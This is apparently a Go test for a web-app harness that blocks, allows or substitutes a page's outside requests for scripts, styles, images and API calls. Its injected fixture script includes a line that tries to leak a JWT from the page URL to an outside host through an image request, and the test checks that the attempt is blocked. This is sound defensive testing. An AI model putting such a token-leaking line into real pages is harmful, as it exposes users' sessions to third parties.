package harness

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/standin-dev/standin/fixtures/apps"
	"github.com/standin-dev/standin/harness/judge"
	"github.com/standin-dev/standin/harness/report"
)

// needsOutside stands in the head of a page: it loads parts from elsewhere, and tells its
// back end which came.
const needsOutside = `<link rel="stylesheet" href="https://cdn.example.com/lib/a.css">
<script src="https://cdn.example.com/x.js"></script>
<script crossorigin="anonymous" src="https://open.example.com/y.js"></script>
<script src="https://open.example.com/moved.js"></script>
<script src="https://open.example.com/leads-away.js"></script>
<script src="https://closed.example.com/z.js?v=1"></script>
<script>
addEventListener("load", async () => {
	const image = (src) => new Promise((done) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done("failed"); i.src = src; });
	const ask = (url, how) => fetch(url, how).then((a) => a.text(), () => "failed");
	const saw = {
		x: typeof x, y: typeof y, moved: typeof moved, away: typeof away, z: typeof z,
		style: getComputedStyle(document.documentElement).getPropertyValue("--from").trim(),
		picture: await image("https://open.example.com/p.svg"),
		leak: await image("https://open.example.com/p.svg?jwt=" + new URLSearchParams(location.search).get("jwt")),
		api: await ask("https://api.example.com/rates", { method: "POST", headers: { "X-Key": "1" }, body: "{}" }),
		fetched: await ask("https://open.example.com/y.js"),
	};
	fetch("/saw?" + new URLSearchParams(saw));
});
</script>`

// A page gets local copies and what is let through, and nothing else; nothing of who asks
// leaves.
func TestOutside(t *testing.T) {
	dir := t.TempDir()
	for name, text := range map[string]string{
		"copies/x.js": "var x = 1", "copies/lib/a.css": ":root { --from: copy }", "copies/rates.json": `{"EUR":1}`,
		"standin.yaml": `outside:
  allow: [open.example.com]
  "https://cdn.example.com/x.js": copies/x.js
  "https://cdn.example.com/lib/": copies/lib
  "https://api.example.com/rates": copies/rates.json
public: ["/saw"]
`} {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var mu sync.Mutex
	var left []string
	cdn := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		left = append(left, fmt.Sprintf("%s %s%s cookie=%s referer=%s", r.Method, r.Host, r.RequestURI, r.Header.Get("Cookie"), r.Header.Get("Referer")))
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Set-Cookie", "who=1; SameSite=None; Secure")
		switch r.URL.Path {
		case "/moved.js":
			http.Redirect(w, r, "/here.js", http.StatusFound)
		case "/leads-away.js":
			http.Redirect(w, r, "https://closed.example.com/away.js", http.StatusFound)
		case "/p.svg":
			w.Header().Set("Content-Type", "image/svg+xml")
			_, _ = io.WriteString(w, `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>`)
		default:
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, map[string]string{"/y.js": "var y = 1", "/here.js": "var moved = 1", "/away.js": "var away = 1", "/z.js": "var z = 1"}[r.URL.Path])
		}
	}))
	defer cdn.Close()
	saw := make(chan map[string]string, 10)
	r := runWith(t, needsOutside, func(q *http.Request) { saw <- firstOf(q) }, func(c *Config) {
		if err := c.LoadConfig(filepath.Join(dir, "standin.yaml")); err != nil {
			t.Fatal(err)
		}
		c.outsideBy = &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, network, cdn.Listener.Addr().String())
		}}
	})
	want := map[string]string{
		"x": "number", "y": "number", "moved": "number", "away": "undefined", "z": "undefined",
		"style": "copy", "picture": "loaded", "leak": "failed", "api": `{"EUR":1}`, "fetched": "failed",
	}
	if diff := cmp.Diff(want, <-saw); diff != "" {
		t.Errorf("the page saw (-want +got):\n%s", diff)
	}
	for _, line := range left {
		if !strings.HasPrefix(line, "GET open.example.com/") || !strings.HasSuffix(line, " cookie= referer=") || strings.Contains(line, "jwt") {
			t.Errorf("it left the machine: %s", line)
		}
	}
	kept := map[string]report.KeptIn{}
	for _, k := range r.Outside {
		kept[k.Address] = k
	}
	for address, kind := range map[string]string{"https://closed.example.com/z.js": "Script", "https://closed.example.com/away.js": "Script", "https://open.example.com/p.svg": "Image"} {
		if k := kept[address]; k.Kind != kind || k.By != "page" || k.Times == 0 {
			t.Errorf("%s: %+v", address, k)
		}
	}
	if len(r.Outside) != 4 || kept["https://open.example.com/y.js"].Reason != "outside lets scripts, styles, fonts and pictures through, and this is a request of the kind Fetch" {
		t.Errorf("kept in: %+v", r.Outside)
	}
	note := func(n string) bool {
		return strings.HasPrefix(n, "outside: kept in,") && strings.Contains(n, "https://closed.example.com/z.js (Script by the page") && strings.Contains(n, "outside: {allow: [closed.example.com]}")
	}
	if !slices.ContainsFunc(r.Notes, note) {
		t.Errorf("no note says what was kept in: %q", r.Notes)
	}
}

func firstOf(q *http.Request) map[string]string {
	out := map[string]string{}
	for name := range q.URL.Query() {
		out[name] = q.URL.Query().Get(name)
	}
	return out
}

// runWith plays a sound sample with more in the head of its page, which tells /saw what it
// found.
func runWith(t *testing.T, head string, saw func(*http.Request), change func(*Config)) *report.Report {
	t.Helper()
	var keys string
	var server *httptest.Server
	sample, _ := apps.ByName("interceptor")
	app := sample.New(apps.Options{BaseURL: func() string { return server.URL }, KeysURL: func() string { return keys }})
	server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/saw" {
			saw(r)
			return
		}
		answer := httptest.NewRecorder()
		app.ServeHTTP(answer, r)
		for name, values := range answer.Header() {
			if name != "Content-Length" {
				w.Header()[name] = values
			}
		}
		w.WriteHeader(answer.Code)
		_, _ = w.Write(bytes.Replace(answer.Body.Bytes(), []byte("<head>"), []byte("<head>"+head), 1))
	}))
	t.Cleanup(func() { server.CloseClientConnections(); server.Close() })
	pattern, err := judge.ParsePattern("/saw")
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{App: server.URL, Use: shared, Policy: judge.Policy{Public: []judge.Pattern{pattern}}, Started: func(env map[string]string) error {
		keys = env["CONNECT_KEYS_CDN_URL"]
		return nil
	}}
	change(&cfg)
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	r, err := Run(ctx, cfg, []Scenario{later(time.Second)})
	if err != nil {
		t.Fatal(err)
	}
	return r
}
